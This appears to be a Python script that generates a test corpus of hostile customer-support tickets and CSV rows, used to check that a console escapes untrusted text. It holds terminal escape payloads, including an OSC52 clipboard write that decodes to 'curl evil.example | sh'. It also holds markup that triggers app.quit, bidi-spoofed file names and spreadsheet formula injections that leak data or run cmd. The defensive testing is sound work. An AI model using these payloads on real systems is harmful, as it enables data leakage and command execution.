"""Writes hostile.jsonl and formulas.csv: customer text that tries to act on the console.

Run it from anywhere (python tests/data/hostile/make_corpus.py); the files sit beside it.
Each record says in `fields.attack` what it tries, so a failing test can name it.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

HERE = Path(__file__).resolve().parent
AT = "2024-01-10T0{}:00:00+08:00"

MARKUP = {
    "close-tag": "[/]",
    "click-quit": "[@click=app.quit]quit now[/]",
    "file-link": "[link=file:///etc/passwd]your invoice[/link]",
    "bold-red": "[bold red]URGENT[/bold red] 訂單 [/] 問題",
}
ESCAPES = {
    "clear-screen": "\x1b[2J\x1b[Hscreen cleared",
    "set-title": "\x1b]0;pwned title\x07title set",
    "osc52-clipboard": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07clipboard written",
    "osc8-hidden-link": "\x1b]8;;https://evil.example/\x1b\\innocent text\x1b]8;;\x1b\\",
    "c1-controls": "\x9b2J\x9d0;c1 title\x9c\x85next line",
    "bidi-override": "invoice_\u202egnp.exe\u202c and \u2066isolated\u2069",
    "nul-and-bell": "nul\x00bell\x07backspace\x08",
}
CJK = "客訴:我很失望 👨‍👩‍👧‍👦 🏳️‍🌈 家庭方案退款 🇹🇼"
LONG = "長" * 50_000 + "x" * 50_000  # 100,000 characters
TALL = "\n".join(f"第 {n} 行" for n in range(1, 5001))  # 5,000 lines


def records() -> list[dict]:
    out: list[dict] = []

    def ticket(ext: str, attack: str, subject: str, body: str, hour: int = 1, name: str = "王小明",
               category: str | None = None) -> None:
        out.append({"type": "ticket", "external_id": ext, "created_at": AT.format(hour), "subject": subject,
                    "body": body, "customer": {"name": name, "contact": f"{ext.lower()}@example.com"},
                    "channel": "email", "fields": {"attack": attack}})
        if category is not None:
            out[-1]["category"] = category

    for i, (attack, text) in enumerate({**MARKUP, **ESCAPES}.items()):
        ticket(f"H-{i + 1:02d}", attack, text, f"body: {text}", name=f"{text[:40]}")
    ticket("H-20", "cjk-emoji-zwj", CJK, CJK * 3)
    ticket("H-21", "100k-subject", LONG, "long subject")
    ticket("H-22", "5000-line-subject", TALL, "tall subject")
    ticket("H-23", "lone-surrogate", "broken \ud800 surrogate", "body \udfff too")
    # Categories reach reports (rows per category): a formula and markup with an escape.
    ticket("H-24", "formula-category", "category attack", "body", category='=HYPERLINK("http://evil.example","x")')
    ticket("H-25", "markup-category", "category attack", "body", category="[@click=app.quit]分類\x1b]0;t\x07")
    out.append({"type": "message", "external_id": "H-02", "at": AT.format(2),
                "body": "[@click=app.quit]reply[/] \x1b]52;c;ZXZpbA==\x07"})
    out.append({"type": "message", "external_id": "H-20", "at": AT.format(3), "author": "agent",
                "body": "我們會處理 [/] \u202eevil"})
    return out


FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")',
    "plus-cmd": "+cmd|' /C calc'!A0",
    "minus-sum": "-1+1",
    "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def main() -> None:
    with (HERE / "hostile.jsonl").open("w", encoding="utf-8") as f:
        for record in records():
            # ensure_ascii keeps the lone surrogate as the escape "\ud800", as real producers write it.
            f.write(json.dumps(record, ensure_ascii=True) + "\n")
    with (HERE / "formulas.csv").open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(["external_id", "created_at", "subject", "body", "customer_name", "attack"])
        for i, (attack, cell) in enumerate(FORMULAS.items()):
            writer.writerow([f"F-{i + 1}", AT.format(4), cell, cell, cell, attack])


if __name__ == "__main__":
    main()
